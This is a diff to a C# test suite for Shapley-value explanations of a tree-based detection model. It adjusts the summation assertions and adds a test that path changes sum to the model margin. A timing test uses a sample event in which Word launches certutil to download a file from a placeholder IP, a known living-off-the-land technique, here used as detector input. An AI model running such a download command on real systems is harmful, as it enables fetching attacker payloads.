@@ -23,7 +23,7 @@ public class ShapleyValuesTests
             {
                 var fast = new ShapleyValues(sample.Trees).Of(sample.Event);
                 var slow = Slow(sample.Trees, sample.Event);
-                for (var f = 0; f < Features; f++) Assert.Equal(slow[f], fast.GetValueOrDefault(f), 1e-9);
+                for (var f = 0; f < Features; f++) Assert.Equal(slow[f], fast[f], 1e-9);
             },
             iter: 500);
 
@@ -33,7 +33,7 @@ public class ShapleyValuesTests
             sample =>
                 Assert.Equal(
                     sample.Trees.Margin(sample.Event),
-                    sample.Trees.Expectation + sample.Trees.Contributions(sample.Event).Values.Sum(),
+                    sample.Trees.Expectation + sample.Trees.Contributions(sample.Event).Sum(),
                     1e-9),
             iter: 500);
 
@@ -71,8 +71,18 @@ public class ShapleyValuesTests
         };
 
         Assert.All(new[] { 0.2f, 0.6f, 0.9f }, x =>
-            Assert.Equal(trees.Margin([x]), trees.Expectation + new ShapleyValues(trees).Of([x]).Values.Sum(), 1e-9));
+            Assert.Equal(trees.Margin([x]), trees.Expectation + new ShapleyValues(trees).Of([x]).Sum(), 1e-9));
     }
+
+    [Fact]
+    public void The_changes_along_the_paths_sum_to_the_margin_as_well() =>
+        Trees.SelectMany(_ => Gen.Float[0, 1].Array[Features], (t, x) => (Trees: t, Event: x)).Sample(
+            sample =>
+                Assert.Equal(
+                    sample.Trees.Margin(sample.Event),
+                    sample.Trees.Expectation + sample.Trees.PathChanges(sample.Event).Sum(),
+                    1e-9),
+            iter: 500);
 
     /// <summary>Manual run: a figure of this machine, and no assertion on its clock.</summary>
     [Fact(Explicit = true)]
@@ -81,13 +91,13 @@ public class ShapleyValuesTests
         var model = new MlModel(ModelPackage.ReadFile(RepositoryRoot.Combine("models", "lotl.zip")));
         var e = Some.ProcessEvent(
             "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
-        for (var i = 0; i < 20; i++) model.Explain(e, 10);
+        for (var i = 0; i < 20; i++) model.Explain(e).Reasons(10);
 
         // The best of some: a machine with other work to do slows down the others.
         var best = Enumerable.Range(0, 30).Min(_ =>
         {
             var time = Stopwatch.StartNew();
-            model.Explain(e, 10);
+            model.Explain(e).Reasons(10);
             return time.Elapsed.TotalMilliseconds;
         });
 
